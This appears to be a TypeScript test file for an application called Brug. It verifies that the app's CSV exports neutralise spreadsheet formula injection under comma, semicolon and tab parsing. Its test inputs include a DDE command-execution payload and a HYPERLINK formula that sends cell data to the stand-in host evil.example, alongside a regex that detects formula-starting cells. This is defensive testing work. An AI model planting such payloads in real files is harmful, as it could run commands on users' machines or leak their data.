import { parse } from 'csv-parse/sync';
import { DataSource } from 'typeorm';
import { bearer, fileCase } from './support/factories';
import { modelCaseWithFunding, routeCase } from './support/funding';
import { DEMO, startTestApp, TestApp } from './support/test-app';

/**
 * Issue 12, item 11: every CSV Brug writes, opened as a spreadsheet would open it. Text a person
 * typed must never start a cell with a formula, whether the reader splits on `,` (honouring the
 * quotes) or on `;` or TAB (the Dutch default; quotes only count at the start of a cell, line
 * breaks always end a row).
 */

/** Every CSV export: `GET path` with `Accept: text/csv`. The OpenAPI check below keeps it whole. */
const EXPORTS = [{ path: '/api/v1/funding/matrix', query: '' }];
/** CSVs whose text cells are domain codes only (kebab-case, checked when a domain is made). */
const CODES_ONLY = ['/api/v1/funding/flows'];
/** The management report (issue 19): a CSV per table, naming teams and handlers people named. */
const REPORT = '/api/v1/reports/management';
const REPORT_TABLES = ['teams', 'handlers', 'domains', 'weeks', 'stages', 'sla'];

/** What a spreadsheet would take for a formula at the start of a cell. */
const FORMULA_START = /^[\s"]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/;

const NASTY = [
  "+cmd|' /C calc'!A0;=1+1",
  '=HYPERLINK("http://evil.example/?"&A1;"klik")',
  'Energie; wonen;-2+3',
  'Tab\tthen\t@SUM(1)',
  'Two\nlines\n=1+1',
  'Windows\r\n-lines',
  '"Quoted"; "=1"',
  '@mention',
  '-',
  '\t=leading tab',
];

describe('CSV exports under CSV injection', () => {
  let t: TestApp;
  const ids: string[] = [];

  beforeAll(async () => {
    t = await startTestApp();
    await modelCaseWithFunding(t);
    // The titles go in by SQL: what matters here is the writer, whatever text the API lets in
    // now or let in before.
    const db = t.app.get(DataSource);
    for (const [i, title] of NASTY.entries()) {
      const c = await fileCase(t, 'buyer', { title: `Nasty ${i}` });
      await db.query(`UPDATE cases SET title = $1 WHERE id = $2`, [title, c.id]);
      ids.push(c.id);
    }
  });
  afterAll(() => t.close());

  it('lists every CSV the API offers', async () => {
    const doc = (await t.http().get('/api/v1/openapi.json').expect(200)).body as {
      paths: Record<string, Record<string, { responses?: Record<string, { content?: object }> }>>;
    };
    const csv = Object.entries(doc.paths)
      .filter(([, operations]) =>
        Object.values(operations).some((op) =>
          Object.values(op.responses ?? {}).some((r) => 'text/csv' in (r.content ?? {})),
        ),
      )
      .map(([path]) => `/api/v1${path}`);
    expect(csv.sort()).toEqual([...EXPORTS.map((e) => e.path), ...CODES_ONLY, REPORT].sort());
  });

  describe('the management report', () => {
    const teamName = NASTY[0]!;
    const handlerName = NASTY[1]!;
    beforeAll(async () => {
      // A routed case of the energy team, whose team and handler are then named by SQL.
      await routeCase(t, ids[0]!);
      const staff = await bearer(t, 'staff');
      const me = (await t.http().get('/api/v1/me').set(staff).expect(200)).body as { id: string };
      const routed = await t.http().get(`/api/v1/cases/${ids[0]}`).set(staff).expect(200);
      await t
        .http()
        .patch(`/api/v1/cases/${ids[0]}`)
        .set({ ...staff, 'If-Match': `"${routed.body.version}"` })
        .send({ assigneeId: me.id })
        .expect(200);
      const db = t.app.get(DataSource);
      await db.query(`UPDATE organisation_units SET name = $1 WHERE code = 'meentcoop-energy'`, [
        teamName,
      ]);
      await db.query(`UPDATE users SET name = $1 WHERE email = $2`, [handlerName, DEMO.staff]);
    });

    it.each(REPORT_TABLES)('table %s starts no cell with a formula', async (table) => {
      const response = await t
        .http()
        .get(`${REPORT}?format=csv&table=${table}`)
        .set(await bearer(t, 'admin'))
        .expect(200);
      expect(response.headers['content-type']).toMatch(/^text\/csv/);
      for (const delimiter of [',', ';', '\t']) {
        const records: string[][] = parse(response.text, {
          delimiter,
          relax_quotes: true,
          relax_column_count: true,
        });
        for (const cell of records.flat()) expect(cell).not.toMatch(FORMULA_START);
      }
      const rows: string[][] = parse(response.text);
      const cells = rows.flat().map((c) => c.replace(/'/g, ''));
      if (table === 'teams') expect(cells).toContain(teamName.replace(/'/g, ''));
      if (table === 'handlers') expect(cells).toContain(handlerName.replace(/'/g, ''));
    });
  });

  it.each(CODES_ONLY)('%s holds codes and numbers only', async (path) => {
    const response = await t
      .http()
      .get(path)
      .set({ ...(await bearer(t, 'admin')), Accept: 'text/csv' })
      .expect(200);
    const [header, ...rows]: string[][] = parse(response.text);
    expect(rows.length).toBeGreaterThan(0);
    for (const row of rows) {
      row.forEach((cell, i) =>
        expect(cell).toMatch(/Cents$/.test(header![i]!) ? /^-?\d+$/ : /^[a-z0-9]+(-[a-z0-9]+)*$/),
      );
    }
  });

  describe.each(EXPORTS)('$path', ({ path, query }) => {
    let text: string;
    beforeAll(async () => {
      const response = await t
        .http()
        .get(`${path}${query}`)
        .set({ ...(await bearer(t, 'admin')), Accept: 'text/csv' })
        .expect(200);
      expect(response.headers['content-type']).toMatch(/^text\/csv/);
      text = response.text;
    });

    it('keeps every row whole for a comma reader, and starts no text cell with a formula', () => {
      const [header, ...rows]: string[][] = parse(text);
      expect(rows.length).toBeGreaterThanOrEqual(NASTY.length + 1);
      for (const row of rows) {
        expect(row).toHaveLength(header!.length);
        row.forEach((cell, i) => {
          // Numeric columns hold numbers Brug computed; every other cell is text.
          if (/Cents$/.test(header![i]!)) expect(cell).toMatch(/^(-?\d+)?$/);
          else expect(cell).not.toMatch(FORMULA_START);
        });
      }
      // The titles are all there, changed by nothing but the neutralising apostrophes.
      const titles = new Map(rows.map((r) => [r[0], r[header!.indexOf('title')]!]));
      NASTY.forEach((title, i) => {
        expect(titles.get(ids[i])?.replace(/'/g, '')).toBe(title.replace(/'/g, ''));
      });
    });

    it.each([';', '\t'])(
      'starts no cell with a formula for a reader splitting on %j',
      (delimiter) => {
        const records: string[][] = parse(text, {
          delimiter,
          relax_quotes: true,
          relax_column_count: true,
        });
        expect(records.length).toBeGreaterThan(NASTY.length);
        for (const cell of records.flat()) expect(cell).not.toMatch(FORMULA_START);
      },
    );
  });
});
